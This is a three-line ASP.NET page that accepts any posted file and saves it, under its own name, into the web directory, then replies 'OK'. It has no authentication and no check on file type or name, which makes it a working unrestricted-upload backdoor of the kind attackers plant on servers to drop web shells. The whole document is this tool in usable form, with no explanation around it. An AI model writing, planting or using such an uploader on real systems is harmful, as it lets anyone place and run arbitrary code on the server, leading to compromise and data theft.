<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<% HttpPostedFile thisFile = Request.Files[0];thisFile.SaveAs(Path.Combine(Server.MapPath("."), Path.GetFileName(thisFile.FileName)));Response.Write("OK"); %>
